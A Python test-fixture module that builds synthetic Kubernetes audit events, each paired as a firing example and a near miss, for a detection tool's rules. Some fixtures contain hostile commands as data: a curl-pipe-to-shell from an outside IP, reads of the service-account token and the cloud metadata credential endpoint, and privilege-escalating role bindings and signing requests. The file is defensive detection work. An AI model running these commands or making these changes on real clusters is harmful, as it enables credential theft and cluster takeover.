"""A firing example and a near miss for every rule id, as real-shaped audit.k8s.io/v1 Events (the
fields a kube-apiserver log backend writes at Request/RequestResponse level), grouped by rule
family. tests/detect/test_rule_examples.py runs each through a fresh pipeline: the rule must fire
on ``fires`` and stay silent on ``near_miss`` (after ``before``, a baseline for first-seen and
threshold rules). docs and `detect rules` can show them too."""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Any

_ids = itertools.count(1)
KUBECTL = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
PUBLIC_IP = "3.120.10.5"  # a global (AWS eu-central-1) address: not on any list below
LISTED_IP = "185.220.101.7"  # the threat-list / Tor-exit address of the GuardDuty examples


def audit(
    verb: str,
    resource: str,
    *,
    ns: str | None = "default",
    name: str | None = None,
    sub: str | None = None,
    group: str = "",
    user: str = "alice@example.com",
    groups: tuple[str, ...] = ("system:authenticated",),
    code: int = 200,
    stage: str = "ResponseComplete",
    ip: str = "10.0.4.17",
    ua: str = KUBECTL,
    query: str = "",
    req: dict[str, Any] | None = None,
    resp: dict[str, Any] | None = None,
    decision: str = "allow",
) -> dict[str, Any]:
    """One audit Event as the API server writes it."""
    n = next(_ids)
    path = (
        (f"/apis/{group}/v1" if group else "/api/v1") + (f"/namespaces/{ns}" if ns else "") + f"/{resource}"
    )
    path += (f"/{name}" if name else "") + (f"/{sub}" if sub else "") + (f"?{query}" if query else "")
    ref: dict[str, Any] = {"resource": resource, "apiVersion": "v1"}
    for k, v in (("namespace", ns), ("name", name), ("subresource", sub), ("apiGroup", group or None)):
        if v:
            ref[k] = v
    ts = f"2026-11-27T10:{n // 60 % 60:02d}:{n % 60:02d}.{n:06d}Z"
    ev: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse" if req or resp else "Metadata",
        "auditID": f"5f0c3f7e-0000-4000-8000-{n:012d}",
        "stage": stage,
        "requestURI": path,
        "verb": verb,
        "user": {"username": user, "groups": list(groups)},
        "sourceIPs": [ip],
        "userAgent": ua,
        "objectRef": ref,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": ts,
        "stageTimestamp": ts,
        "annotations": {
            "authorization.k8s.io/decision": decision if code != 403 else "forbid",
            "authorization.k8s.io/reason": "" if code == 403 else 'RBAC: allowed by ClusterRoleBinding "ops"',
        },
    }
    if req is not None:
        ev["requestObject"] = req
    if resp is not None:
        ev["responseObject"] = resp
    return ev


def pod(*containers: dict[str, Any], ns: str = "default", **spec: Any) -> dict[str, Any]:
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web", "namespace": ns},
            "spec": {"containers": list(containers), **spec}}  # fmt: skip


def ctr(image: str = "nginx:1.25", **more: Any) -> dict[str, Any]:
    return {"name": "app", "image": image, **more}


def deployment(*containers: dict[str, Any], **spec: Any) -> dict[str, Any]:
    return {"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "web"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}}, "template": {
                "metadata": {"labels": {"app": "web"}}, "spec": {"containers": list(containers), **spec}}}}  # fmt: skip


def role(kind: str, *rules: tuple[list[str], list[str]]) -> dict[str, Any]:
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "r"},
            "rules": [{"apiGroups": [""], "resources": r, "verbs": v} for r, v in rules]}  # fmt: skip


def binding(kind: str, role_name: str, *subjects: dict[str, Any]) -> dict[str, Any]:
    return {"kind": kind, "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "b"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role_name},
            "subjects": list(subjects)}  # fmt: skip


def create_pod(p: dict[str, Any], ns: str = "default", **kw: Any) -> dict[str, Any]:
    return audit("create", "pods", ns=ns, name="web", code=201, req=p, **kw)


def create(
    resource: str, obj: dict[str, Any], ns: str | None = "default", group: str = "", **kw: Any
) -> dict[str, Any]:
    return audit(
        "create", resource, ns=ns, name=obj["metadata"]["name"], group=group, code=201, req=obj, **kw
    )


def exec_(command: str | list[str], ns: str = "default", **kw: Any) -> dict[str, Any]:
    """kubectl exec: the command as repeated query parameters (a string runs under sh -c)."""
    args = ["sh", "-c", command] if isinstance(command, str) else command
    q = "&".join("command=" + c.replace(" ", "%20").replace("|", "%7C") for c in args)
    return audit("create", "pods", ns=ns, name="web-0", sub="exec", code=101, stage="ResponseStarted",
                 query=q + "&container=app&stdin=true&tty=true", **kw)  # fmt: skip


@dataclass(frozen=True)
class Example:
    fires: tuple[dict[str, Any], ...]
    near_miss: tuple[dict[str, Any], ...]
    before: tuple[dict[str, Any], ...] = ()  # fed before the near miss: a baseline
    config: dict[str, Any] = field(default_factory=dict)  # DetectConfig arguments; ip lists by name


def ex(fires: Any, near: Any, before: Any = (), **config: Any) -> Example:
    def tup(x: Any) -> tuple[dict[str, Any], ...]:
        return tuple(x) if isinstance(x, list | tuple) else (x,)

    return Example(tup(fires), tup(near), tup(before), config)


PRIV: dict[str, Any] = {"securityContext": {"privileged": True}}
HOST_ETC: dict[str, Any] = {"volumes": [{"name": "h", "hostPath": {"path": "/etc"}}]}
ADMIN = "kubernetes-admin"
SA_DEFAULT = {"kind": "ServiceAccount", "name": "default", "namespace": "default"}

# --- Falco k8saudit parity -------------------------------------------------------------------

FALCO: dict[str, Example] = {
    "KS-AUD-F01": ex(audit("get", "pods", name="web"), audit("get", "pods", name="web", user=ADMIN)),
    "KS-AUD-F02": ex(create_pod(pod(ctr("nginx:1.25"))), create_pod(pod(ctr("registry.example.com/app:1.0"))),
                     allowed_images=["registry.example.com/app"]),
    "KS-AUD-F03": ex(create_pod(pod(ctr(**PRIV))), create_pod(pod(ctr("docker.io/calico/node:v3.27", **PRIV)))),
    "KS-AUD-F04": ex(create_pod(pod(ctr(), **HOST_ETC)),
                     create_pod(pod(ctr(), volumes=[{"name": "h", "hostPath": {"path": "/data"}}]))),
    "KS-AUD-F05": ex(create_pod(pod(ctr(), hostNetwork=True)), create_pod(pod(ctr("gke.gcr.io/kube-proxy:v1"), hostNetwork=True))),
    "KS-AUD-F06": ex(create_pod(pod(ctr(), hostPID=True)), create_pod(pod(ctr(), hostPID=False))),
    "KS-AUD-F07": ex(create_pod(pod(ctr(), hostIPC=True)), create_pod(pod(ctr(), hostIPC=False))),
    "KS-AUD-F08": ex(create("services", {"metadata": {"name": "web"}, "spec": {"type": "NodePort", "ports": [{"port": 80}]}}),
                     create("services", {"metadata": {"name": "web"}, "spec": {"type": "ClusterIP", "ports": [{"port": 80}]}})),
    "KS-AUD-F09": ex(create("configmaps", {"metadata": {"name": "c"}, "data": {"db_password": "hunter2"}}),
                     create("configmaps", {"metadata": {"name": "c"}, "data": {"log_level": "debug"}})),
    "KS-AUD-F10": ex(audit("get", "pods", ns=None, user="system:anonymous", groups=("system:unauthenticated",)),
                     audit("get", "", ns=None, user="system:anonymous", groups=("system:unauthenticated",)) | {"requestURI": "/healthz", "objectRef": None}),
    "KS-AUD-F11": ex(exec_("id"), exec_("id") | {"stage": "ResponseComplete"}),
    "KS-AUD-F12": ex(audit("create", "pods", name="db-0", sub="portforward", code=101, stage="ResponseStarted"),
                     audit("get", "pods", name="db-0", sub="proxy")),
    "KS-AUD-F13": ex(audit("patch", "pods", name="web", sub="ephemeralcontainers",
                           req={"spec": {"ephemeralContainers": [{"name": "debugger", "image": "busybox"}]}}),
                     audit("patch", "pods", name="web", sub="status", req={"status": {"phase": "Running"}})),
    "KS-AUD-F14": ex(audit("create", "namespaces", ns=None, name="evil", code=201),
                     audit("create", "namespaces", ns=None, name="default", code=201)),
    "KS-AUD-F15": ex(create_pod(pod(ctr(), ns="kube-system"), ns="kube-system"),
                     create_pod(pod(ctr("registry.k8s.io/kube-apiserver:v1.29.2"), ns="kube-system"), ns="kube-system")),
    "KS-AUD-F16": ex(audit("create", "serviceaccounts", ns="kube-system", name="backdoor", code=201),
                     audit("create", "serviceaccounts", ns="kube-system", name="coredns", code=201)),
    "KS-AUD-F17": ex(audit("patch", "clusterroles", ns=None, name="system:aggregate-to-edit", group="rbac.authorization.k8s.io"),
                     audit("patch", "clusterroles", ns=None, name="system:coredns", group="rbac.authorization.k8s.io")),
    "KS-AUD-F18": ex(create("clusterrolebindings", binding("ClusterRoleBinding", "cluster-admin", {"kind": "User", "name": "mallory"}), ns=None),
                     create("clusterrolebindings", binding("ClusterRoleBinding", "view", {"kind": "User", "name": "mallory"}), ns=None)),
    "KS-AUD-F19": ex(create("roles", role("Role", (["*"], ["get"]))), create("roles", role("Role", (["pods"], ["get"])))),
    "KS-AUD-F20": ex(create("roles", role("Role", (["pods"], ["delete"]))), create("roles", role("Role", (["pods"], ["list"])))),
    "KS-AUD-F21": ex(create("roles", role("Role", (["pods/exec"], ["get"]))), create("roles", role("Role", (["pods/log"], ["get"])))),
    "KS-AUD-F50": ex(audit("get", "secrets", name="db"), audit("get", "secrets", name="db", code=404)),
    "KS-AUD-F51": ex(audit("get", "secrets", name="db", code=403), audit("get", "secrets", name="db")),
    "KS-AUD-F52": ex(audit("get", "pods", user=ADMIN), audit("get", "pods"), full_admin_users=[ADMIN]),
    "KS-AUD-F53": ex(create("ingresses", {"metadata": {"name": "web"}, "spec": {"rules": [{"host": "shop.example.com"}]}},
                            group="networking.k8s.io"),
                     create("ingresses", {"metadata": {"name": "web"}, "spec": {"tls": [{"hosts": ["shop.example.com"]}]}},
                            group="networking.k8s.io")),
    "KS-AUD-F54": ex(audit("create", "nodes", ns=None, name="rogue", code=201),
                     audit("create", "nodes", ns=None, name="ip-10-0-1-1.ec2.internal", code=201),
                     allowed_nodes=["ip-10-0-1-1.ec2.internal"]),
    "KS-AUD-F55": ex(audit("create", "nodes", ns=None, name="rogue", code=403),
                     audit("create", "nodes", ns=None, name="ip-10-0-1-1.ec2.internal", code=403),
                     allowed_nodes=["ip-10-0-1-1.ec2.internal"]),
}  # fmt: skip
_ACTIVITY = ["deployments", "services", "configmaps", "namespaces", "serviceaccounts", "roles", "clusterroles",
             "rolebindings", "clusterrolebindings", "secrets"]  # fmt: skip
for _i, _res in enumerate(_ACTIVITY):
    _ns = None if _res in ("namespaces", "clusterroles", "clusterrolebindings") else "default"
    for _j, (_verb, _code) in enumerate((("create", 201), ("delete", 200))):
        FALCO[f"KS-AUD-F{30 + 2 * _i + _j}"] = ex(
            audit(_verb, _res, ns=_ns, name="x", code=_code), audit(_verb, _res, ns=_ns, name="x", code=403)
        )

# --- GuardDuty --------------------------------------------------------------------------------

_SVC_LB = {"type": "LoadBalancer", "ports": [{"port": 443}]}
GUARDDUTY: dict[str, Example] = {
    "KS-AUD-G01": ex(exec_("id", ns="kube-system"), exec_("id")),
    "KS-AUD-G02": ex(create("rolebindings", binding("RoleBinding", "view", {"kind": "User", "name": "system:anonymous"})),
                     create("rolebindings", binding("RoleBinding", "view", {"kind": "User", "name": "alice@example.com"}))),
    "KS-AUD-G03": ex(create("clusterrolebindings", binding("ClusterRoleBinding", "cluster-admin", SA_DEFAULT), ns=None),
                     create("clusterrolebindings", binding("ClusterRoleBinding", "cluster-admin",
                                                           {**SA_DEFAULT, "name": "ci"}), ns=None)),
    "KS-AUD-G04": ex(create("services", {"metadata": {"name": "kubernetes-dashboard"}, "spec": _SVC_LB}),
                     create("services", {"metadata": {"name": "kubernetes-dashboard", "annotations": {
                         "service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"}}, "spec": _SVC_LB})),
    "KS-AUD-G05": ex(create("services", {"metadata": {"name": "centraldashboard"}, "spec": _SVC_LB}),
                     create("services", {"metadata": {"name": "centraldashboard"}, "spec": {"type": "ClusterIP"}})),
    "KS-AUD-G06": ex(create("deployments", deployment(ctr("evil/miner:1", **PRIV)), group="apps"),
                     create("deployments", deployment(ctr("evil/miner:1", **PRIV)), group="apps"),
                     before=create("deployments", deployment(ctr("evil/miner:1", **PRIV)), group="apps")),
    "KS-AUD-G07": ex(create_pod(pod(ctr(volumeMounts=[{"name": "h", "mountPath": "/host"}]), **HOST_ETC)),
                     create_pod(pod(ctr(volumeMounts=[{"name": "h", "mountPath": "/host", "readOnly": True}]), **HOST_ETC))),
}  # fmt: skip
# tactic x source: one request per tactic, from each source; the near miss comes from an address on
# no list, or is an anonymous request that was denied
_TACTIC_REQUEST = {
    "CredentialAccess": ("get", "secrets", "default", 200),
    "DefenseEvasion": ("delete", "events", "default", 200),
    "Discovery": ("list", "pods", "default", 200),
    "Impact": ("delete", "deployments", "default", 200),
    "Persistence": ("create", "clusterrolebindings", None, 201),
}
_LISTS = {"MaliciousIPCaller": "malicious", "MaliciousIPCaller.Custom": "custom", "TorIPCaller": "tor"}
_n = 10
for _tactic, (_verb, _res, _ns, _code) in _TACTIC_REQUEST.items():
    for _src in ("MaliciousIPCaller", "MaliciousIPCaller.Custom", "TorIPCaller", "SuccessfulAnonymousAccess"):
        if _src in _LISTS:
            GUARDDUTY[f"KS-AUD-G{_n}"] = ex(
                audit(_verb, _res, ns=_ns, name="x", code=_code, ip=LISTED_IP),
                audit(_verb, _res, ns=_ns, name="x", code=_code, ip=PUBLIC_IP),
                **{_LISTS[_src]: [LISTED_IP]},
            )
        else:
            anon: dict[str, Any] = {"user": "system:anonymous", "groups": ("system:unauthenticated",)}
            GUARDDUTY[f"KS-AUD-G{_n}"] = ex(
                audit(_verb, _res, ns=_ns, name="x", code=_code, **anon),
                audit(_verb, _res, ns=_ns, name="x", code=403, **anon),
            )
        _n += 1

_ESC = role("ClusterRole", (["*"], ["*"]))
_TOOL = deployment(ctr("kalilinux/kali-rolling", command=["sleep", "infinity"]))
GUARDDUTY |= {
    # first-seen: the near miss repeats what the baseline did (same user, verb, agent, network)
    "KS-AUD-G40": ex(audit("get", "secrets", name="db"), audit("get", "secrets", name="api"),
                     before=audit("get", "secrets", name="db")),
    "KS-AUD-G41": ex(create("clusterrolebindings", binding("ClusterRoleBinding", "admin", {"kind": "User", "name": "bob"}), ns=None),
                     create("clusterrolebindings", binding("ClusterRoleBinding", "edit", {"kind": "User", "name": "carol"}), ns=None),
                     before=create("clusterrolebindings", binding("ClusterRoleBinding", "admin", {"kind": "User", "name": "bob"}), ns=None)),
    "KS-AUD-G42": ex(exec_("id"), exec_("ls"), before=exec_("id")),
    "KS-AUD-G43": ex(create("deployments", deployment(ctr(**PRIV)), group="apps"),
                     create("deployments", deployment(ctr(**PRIV)), group="apps"),
                     before=create("deployments", deployment(ctr(**PRIV)), group="apps")),
    "KS-AUD-G44": ex(create_pod(pod(ctr(volumeMounts=[{"name": "h", "mountPath": "/host"}]), **HOST_ETC)),
                     create_pod(pod(ctr(volumeMounts=[{"name": "h", "mountPath": "/host"}]), **HOST_ETC)),
                     before=create_pod(pod(ctr(volumeMounts=[{"name": "h", "mountPath": "/host"}]), **HOST_ETC))),
    "KS-AUD-G45": ex(create("deployments", _TOOL, group="apps"), create("deployments", _TOOL, group="apps"),
                     before=create("deployments", _TOOL, group="apps")),
    "KS-AUD-G46": ex(create("clusterroles", _ESC, ns=None), create("clusterroles", _ESC, ns=None),
                     before=create("clusterroles", _ESC, ns=None)),
    "KS-AUD-G47": ex(audit("create", "selfsubjectaccessreviews", ns=None, group="authorization.k8s.io", code=201,
                           req={"spec": {"resourceAttributes": {"verb": "create", "resource": "pods", "subresource": "exec"}}},
                           resp={"status": {"allowed": True}}),
                     audit("create", "selfsubjectaccessreviews", ns=None, group="authorization.k8s.io", code=201,
                           req={"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}},
                           resp={"status": {"allowed": True}})),
}  # fmt: skip

# --- ours -------------------------------------------------------------------------------------

_HOOK = {"kind": "MutatingWebhookConfiguration", "metadata": {"name": "inject"}, "webhooks": [
    {"name": "inject.example.com", "clientConfig": {"url": "https://203.0.113.9/mutate"},
     "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
     "failurePolicy": "Ignore"}]}  # fmt: skip
_CSR: dict[str, Any] = {"metadata": {"name": "me"}, "spec": {"signerName": "kubernetes.io/kube-apiserver-client",
        "usages": ["client auth"], "groups": ["system:masters"], "request": "LS0tLS1CRUdJTi..."}}  # fmt: skip
_CRON = {"metadata": {"name": "backup"}, "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {
    "spec": {"containers": [ctr("alpine:3.19", command=["sh", "-c", "date"])], "restartPolicy": "Never"}}}}}}  # fmt: skip
_DS = deployment(ctr()) | {"kind": "DaemonSet", "metadata": {"name": "agent"}}
_CURL_SH = ctr("alpine:3.19", command=["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"])
_CURL_O = ctr("alpine:3.19", command=["sh", "-c", "curl -so /tmp/x.sh http://203.0.113.9/x.sh"])
_SYS = "system:kube-controller-manager"
NATIVE: dict[str, Example] = {
    "KS-AUD-N01": ex(create("mutatingwebhookconfigurations", _HOOK, ns=None, group="admissionregistration.k8s.io"),
                     create("mutatingwebhookconfigurations", _HOOK, ns=None, group="admissionregistration.k8s.io") | {
                         "responseStatus": {"code": 403}}),
    "KS-AUD-N02": ex(create("certificatesigningrequests", _CSR, ns=None, group="certificates.k8s.io"),
                     create("certificatesigningrequests", _CSR | {"spec": _CSR["spec"] | {
                         "signerName": "kubernetes.io/kubelet-serving", "usages": ["server auth"]}}, ns=None,
                            group="certificates.k8s.io")),
    "KS-AUD-N03": ex(create("clusterrolebindings", binding("ClusterRoleBinding", "edit", {"kind": "User", "name": "bob"}), ns=None),
                     create("clusterrolebindings", binding("ClusterRoleBinding", "view", {"kind": "User", "name": "bob"}), ns=None)),
    "KS-AUD-N04": ex(create("cronjobs", _CRON, group="batch"), create("cronjobs", _CRON, group="batch") | {"responseStatus": {"code": 403}}),
    "KS-AUD-N05": ex(create("daemonsets", _DS, group="apps"), create("daemonsets", _DS, group="apps") | {"responseStatus": {"code": 403}}),
    "KS-AUD-N06": ex(exec_(["tar", "cf", "-", "/var/lib/data"]), exec_(["tar", "cf", "/tmp/data.tar", "/var/lib/data"])),
    "KS-AUD-N07": ex(exec_("cat /var/run/secrets/kubernetes.io/serviceaccount/token"), exec_("cat /etc/hostname")),
    "KS-AUD-N08": ex(exec_("curl -s http://169.254.169.254/latest/meta-data/iam/"), exec_("curl -s http://web.default/healthz")),
    "KS-AUD-N09": ex(create_pod(pod(ctr(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}))),
                     create_pod(pod(ctr(securityContext={"capabilities": {"add": ["NET_BIND_SERVICE"]}})))),
    "KS-AUD-N10": ex(create_pod(pod(ctr(), volumes=[{"name": "h", "hostPath": {"path": "/data"}}])),
                     create_pod(pod(ctr(), volumes=[{"name": "h", "emptyDir": {}}]))),
    "KS-AUD-N11": ex(create_pod(pod(ctr(), ns="kube-system"), ns="kube-system"), create_pod(pod(ctr()))),
    "KS-AUD-N12": ex(create("clusterroles", role("ClusterRole", (["nodes/proxy"], ["get"])), ns=None),
                     create("clusterroles", role("ClusterRole", (["nodes"], ["get"])), ns=None)),
    "KS-AUD-N13": ex([audit("get", "secrets", name=f"s{i}", code=403) for i in range(2)],
                     [audit("get", "secrets", name=f"s{i}") for i in range(2)], thresholds={"KS-AUD-N13": 2}),
    "KS-AUD-N14": ex([audit("get", "secrets", name=f"s{i}") for i in range(2)],
                     [audit("get", "secrets", name="s0") for _ in range(2)], thresholds={"KS-AUD-N14": 2}),
    "KS-AUD-N15": ex(audit("list", "secrets", ns=None), audit("list", "secrets")),
    "KS-AUD-N16": ex(audit("create", "serviceaccounts", name="ci", sub="token", code=201),
                     audit("create", "serviceaccounts", name="ci", sub="token", code=403)),
    "KS-AUD-N17": ex(audit("list", "secrets", ns=None, user=_SYS, ip=PUBLIC_IP), audit("list", "secrets", ns=None, user=_SYS)),
    "KS-AUD-N18": ex([audit("list", "secrets", ns=None, code=403, ip=PUBLIC_IP) for _ in range(2)],
                     [audit("list", "secrets", ns=None, code=403) for _ in range(2)], thresholds={"KS-AUD-N18": 2}),
    "KS-AUD-N19": ex(audit("get", "pods", ns=None, user="system:anonymous", code=403, ip=PUBLIC_IP),
                     audit("get", "pods", ns=None, user="system:anonymous", code=403)),
    "KS-AUD-N20": ex(audit("deletecollection", "events", ns="kube-system"), audit("deletecollection", "events", ns="kube-system", code=403)),
    "KS-AUD-N21": ex(create_pod(pod(ctr(), hostPID=True)), create_pod(pod(ctr(), hostPID=False))),
    "KS-AUD-N22": ex(create_pod(pod(ctr(**PRIV))), create_pod(pod(ctr(securityContext={"runAsUser": 1000})))),
    "KS-AUD-N23": ex(create("clusterroles", role("ClusterRole", (["clusterroles"], ["escalate"])), ns=None),
                     create("clusterroles", role("ClusterRole", (["pods"], ["get"])), ns=None)),
    "KS-AUD-N24": ex(create("deployments", deployment(_CURL_SH), group="apps"), create("deployments", deployment(_CURL_O), group="apps")),
}  # fmt: skip

EXAMPLES: dict[str, Example] = {**FALCO, **GUARDDUTY, **NATIVE}


def example_config(example: Example) -> Any:
    """The DetectConfig an example runs with (fresh state, no dedup window)."""
    from kubestrata.detect.pipeline import DetectConfig, IPList, IPLists

    cfg = dict(example.config)
    lists = {k: IPList(cfg.pop(k)) for k in ("malicious", "custom", "tor") if k in cfg}
    for k in ("allowed_images", "full_admin_users", "allowed_nodes"):
        if k in cfg:
            cfg[k] = frozenset(cfg[k])
    return DetectConfig(cluster="example", dedup_window=0, ip_lists=IPLists(**lists), **cfg)
